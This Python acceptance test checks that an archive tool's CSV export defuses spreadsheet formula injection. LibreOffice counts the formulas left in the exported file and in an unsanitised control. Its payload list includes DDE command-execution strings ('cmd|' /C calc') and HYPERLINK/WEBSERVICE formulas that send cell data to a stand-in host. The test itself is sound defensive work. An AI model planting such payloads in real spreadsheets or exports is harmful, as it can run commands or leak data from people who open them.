"""G19: what a title may hold that a spreadsheet would run; once exported, none is left."""

import csv
import re
import shutil
import subprocess
from pathlib import Path

from archive.hand_on.cells import restore
from archive.hand_on.export import export
from archive.hand_on.layout import lay_out
from archive.hand_on.units import PUBLICATIONS, read_rows
from archive.search.filters import Filters
from archive.store import Archive
from tests.acceptance.torture.goal import CannotRunError, Measured, Setting
from tests.support.factory import HOME, Visit, make_record

STARTS = ("=", "+", "-", "@", "\t=", "\r=", "＝", "＋", "－", "＠")
BODIES = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"看")', "cmd|' /C calc'!A0",
    "2+5+cmd|' /C calc'!A0", 'WEBSERVICE("http://x.example/"&A2)', 'IMPORTXML("http://x.example","//a")',
    'DDE("a";"b";"c")', "A1*2", "86 0355 3022001",
)  # fmt: skip
CALC = ("soffice", "libreoffice")
FORMULA = re.compile(rb"table:formula=")


def payloads(number: int) -> list[str]:
    """Return so many cells that want to be formulas."""
    every = [f"{start}{body}" for start in STARTS for body in BODIES]
    return [f"{every[at % len(every)]}{'' if at < len(every) else f' {at}'}" for at in range(number)]


def formulas_in(path: Path, folder: Path) -> int:
    """Return how many formulas LibreOffice makes of a table."""
    calc = next((each for each in CALC if shutil.which(each)), None)
    if calc is None:
        raise CannotRunError("LibreOffice is not installed (Debian package libreoffice-calc)")
    profile = (folder / "profile").as_uri()
    command = [calc, f"-env:UserInstallation={profile}", "--headless", "--convert-to", "fods", "--outdir"]
    done = subprocess.run(
        [*command, str(folder), str(path)], capture_output=True, text=True, timeout=300, check=False
    )
    made = folder / f"{path.stem}.fods"
    if not made.exists():
        raise CannotRunError(f"LibreOffice does not convert: {done.stderr.strip()[-200:]}")
    return len(FORMULA.findall(made.read_bytes()))


def run(setting: Setting) -> Measured:
    """Store, export, open."""
    cells = payloads(setting.size(500, 500))
    path = setting.folder / "a.db"
    visit = Visit(path)
    for number, cell in enumerate(cells):
        visit.save(make_record(f"{HOME}{number:04}.html", cell, f"第{number}份报告", publisher=cell))
    visit.archive.close()
    exported, plain = setting.folder / "exported.csv", setting.folder / "plain.csv"
    with Archive.open(path, read_only=True) as archive:
        export(read_rows(archive.db, PUBLICATIONS, Filters()), exported, lay_out(PUBLICATIONS))
    with plain.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([cell] for cell in cells)
    found, control = formulas_in(exported, setting.folder), formulas_in(plain, setting.folder)
    with exported.open(encoding="utf-8-sig", newline="") as file:
        back = [restore(row["publisher"]) for row in csv.DictReader(file)]
    misses = [f"{found} formulas"] if found else []
    misses += [] if control else ["the control has no formula either: this proves nothing"]
    misses += (
        [] if back == cells else [f"{sum(a != b for a, b in zip(back, cells, strict=False))} cells changed"]
    )
    return Measured(
        figure=f"{len(cells)} payloads in two columns: {found} formulas in LibreOffice; the payloads as "
        f"they are give {control}; {'all' if back == cells else 'not all'} read back equal",
        misses=misses,
    )
